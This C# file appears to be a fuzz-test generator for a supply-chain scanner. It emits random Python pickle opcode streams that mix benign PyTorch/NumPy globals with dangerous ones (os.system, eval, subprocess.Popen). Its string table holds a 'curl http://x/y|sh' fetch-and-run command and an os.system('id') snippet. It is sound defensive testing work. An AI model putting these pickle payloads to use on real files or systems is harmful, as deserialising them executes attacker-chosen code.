using System.Globalization;
using System.Text;

namespace SupplyChainAnalyzers.Scanner.Tests.Fuzz;

/// <summary>Opcode sequences of protocols 0 to 5 (CPython Lib/pickletools.py): mostly such as unpickle, with names and strings that matter.</summary>
internal static class PickleGenerator
{
    private static readonly string[] Modules = ["os", "builtins", "__builtin__", "collections", "torch._utils", "torch", "numpy.core.multiarray", "numpy", "functools", "_codecs", "copyreg", "subprocess", "x.y", ""];
    private static readonly string[] Names = ["system", "eval", "OrderedDict", "_rebuild_tensor_v2", "FloatStorage", "_reconstruct", "ndarray", "dtype", "partial", "encode", "_reconstructor", "Popen", "__import__", "a.b.c", "getattr"];
    private static readonly string[] Strings = ["weight", "curl http://x/y|sh", "import os; os.system('id')", "state_dict", "\u00e4\ud83d\ude00", "", "storage", "cpu", "latin1", "b8"];

    public static byte[] Next(Random random)
    {
        var bytes = new FuzzBytes(random);
        if (!bytes.Chance(6))
            bytes.Byte(0x80).Byte((int)bytes.Mostly(random.Next(6)));
        for (var count = random.Next(1, 60); count > 0; count--)
            Opcode(bytes, 0);
        if (!bytes.Chance(10))
            bytes.Byte('.');
        if (bytes.Chance(8))
            bytes.Raw(Next(random));
        return bytes.ToArray();
    }

    private static void Opcode(FuzzBytes to, int depth)
    {
        switch (to.Random.Next(34))
        {
            case 0:
                to.Text($"c{to.Any<string>(Modules)}\n{to.Any<string>(Names)}\n");
                break;
            case 1 or 2:
                Unicode(to, to.Any<string>(Modules));
                Unicode(to, to.Any<string>(Names));
                to.Byte(0x93); // STACK_GLOBAL
                break;
            case 3:
                Unicode(to, to.Any<string>(Strings));
                to.Byte(0x85); // TUPLE1
                break;
            case 4:
                to.Byte('R');
                break;
            case 5:
                to.Byte(to.Any<int>(0x81, 0x92)); // NEWOBJ, NEWOBJ_EX
                break;
            case 6:
                to.Byte('b');
                break;
            case 7:
                to.Text($"({(to.Chance(2) ? "" : "K\u0001")}i{to.Any<string>(Modules)}\n{to.Any<string>(Names)}\n");
                break;
            case 8:
                to.Byte('(');
                for (var count = depth < 4 ? to.Random.Next(5) : 0; count > 0; count--)
                    Opcode(to, depth + 1);
                to.Byte(to.Any<int>('t', 'l', 'd', 'o', 0x90, 0x91, 'e', 'u', '1'));
                break;
            case 9 or 10:
                Unicode(to, to.Any<string>(Strings));
                break;
            case 11:
                to.Text("S" + to.Any("'a'", "\"b\\x41\\n\"", "'\\", "'unfinished", "''", "'\\777'") + "\n");
                break;
            case 12:
                to.Text("V" + to.Any("text", "\\u0041\\U0001F600", "\\uD800", "\\u12") + "\n");
                break;
            case 13:
                to.Text(to.Any("I", "L", "F") + to.Any("1", "01", "00", "-5", "1_000", "0x10", "99999999999999999999", "1e400", "nan", "10L", " 7 ", "") + "\n");
                break;
            case 14:
                to.Byte('K').Byte(to.Random.Next(256));
                break;
            case 15:
                to.Byte('J').U32(to.Random.NextInt64());
                break;
            case 16:
                to.Byte(0x8A).Byte((int)to.Mostly(3)).Raw([1, 2, 3]); // LONG1
                break;
            case 17:
                Counted(to, 'B', 4, Nested(to, depth)); // BINBYTES
                break;
            case 18:
                Counted(to, to.Any<int>('U', 'C'), 1, Encoding.UTF8.GetBytes(to.Any<string>(Strings)));
                break;
            case 19:
                Counted(to, to.Any(0x8D, 0x8E, 0x96), 8, Nested(to, depth)); // BINUNICODE8, BINBYTES8, BYTEARRAY8
                break;
            case 20:
                to.Byte(to.Any<int>('q', 'h')).Byte(to.Random.Next(to.Chance(8) ? 256 : 6));
                break;
            case 21:
                to.Byte(to.Any<int>('r', 'j')).U32(to.Mostly(to.Random.Next(6)));
                break;
            case 22:
                to.Text(to.Any("p", "g") + to.Mostly(to.Random.Next(6)).ToString(CultureInfo.InvariantCulture) + "\n");
                break;
            case 23 or 24:
                to.Byte(0x94); // MEMOIZE
                break;
            case 25:
                to.Byte(0x95).U64(to.Mostly(to.Random.Next(64), 3)); // FRAME
                break;
            case 26:
                to.Byte(to.Any<int>('0', '2', '1', 'N', ']', '}', ')', 0x8F, 0x88, 0x89));
                break;
            case 27:
                to.Byte(to.Any<int>('a', 's', 'e', 'u', 0x86, 0x87, 0x90));
                break;
            case 28:
                to.Text("P" + to.Any<string>(Strings) + "\n");
                break;
            case 29:
                to.Byte(to.Any<int>('Q', 0x97, 0x98)); // BINPERSID, NEXT_BUFFER, READONLY_BUFFER
                break;
            case 30:
                to.Byte(0x82).Byte(to.Random.Next(256)); // EXT1
                break;
            case 31:
                to.Byte('G').U64(to.Random.NextInt64());
                break;
            case 32:
                to.Byte(to.Random.Next(256));
                break;
            default:
                to.Byte(0x80).Byte(to.Random.Next(8));
                break;
        }
    }

    private static byte[] Nested(FuzzBytes to, int depth) => depth < 2 && to.Chance(3) ? Next(to.Random) : new byte[to.Random.Next(40)];

    private static void Unicode(FuzzBytes to, string text) => Counted(to, to.Chance(2) ? 0x8C : 'X', to.Chance(2) ? 1 : 4, Encoding.UTF8.GetBytes(text));

    private static void Counted(FuzzBytes to, int opcode, int size, byte[] content)
    {
        // The size of the count follows from the opcode; a wrong one now and then is what a damaged stream has.
        size = opcode switch { 0x8C => 1, 'X' => 4, _ => size };
        to.Byte(opcode);
        var count = to.Mostly(content.Length);
        _ = size switch { 1 => to.Byte((int)count), 4 => to.U32(count), _ => to.U64(count) };
        to.Raw(content);
    }
}
